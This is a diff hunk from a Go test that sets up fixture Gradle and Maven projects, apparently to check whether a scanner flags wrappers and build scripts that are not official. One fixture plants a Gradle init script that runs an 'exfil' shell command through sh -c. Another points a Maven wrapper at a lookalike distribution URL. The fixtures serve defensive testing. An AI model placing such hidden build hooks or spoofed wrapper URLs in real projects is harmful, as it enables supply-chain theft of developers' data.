@@ -68,7 +68,7 @@ func TestOfficialWrapperProjects(t *testing.T) {
 		gradleProject("ginit", map[string]string{"ci/init.gradle": "[\"sh\", \"-c\", \"" + exfil + "\"].execute().waitFor()\n"}),
 		gradleProject("gok", map[string]string{"settings.gradle": "rootProject.name = 'x'\ninclude(\"app\", \"lib\")\n", "app/build.gradle": "plugins { id 'application' }\ndependencies { implementation project(':lib') }\n",
 			"lib/build.gradle": "plugins { id 'java-library' }\napply from: rootProject.file('gradle/common.gradle')\n", "gradle/common.gradle": "repositories { mavenCentral() }\n",
-			"gradle.properties": "org.gradle.jvmargs=-Xmx2g -Dfile.encoding=UTF-8\norg.gradle.parallel=true\n",
+			"gradle.properties":                "org.gradle.jvmargs=-Xmx2g -Dfile.encoding=UTF-8\norg.gradle.parallel=true\n",
 			"lib/src/test/java/a/LibTest.java": "package a;\nclass LibTest {\n  @Test void t(@TempDir Path d) throws Exception { assertEquals(0, new ProcessBuilder(\"git\", \"init\").directory(d.toFile()).start().waitFor()); }\n}\n"}),
 		mavenProject("m", nil),
 		mavenProject("mcentral", map[string]string{".mvn/wrapper/maven-wrapper.properties": "distributionUrl=https://repo.maven.apache.org/maven2/io/github/x/apache-maven/3.9.12/apache-maven-3.9.12-bin.zip\n"}),
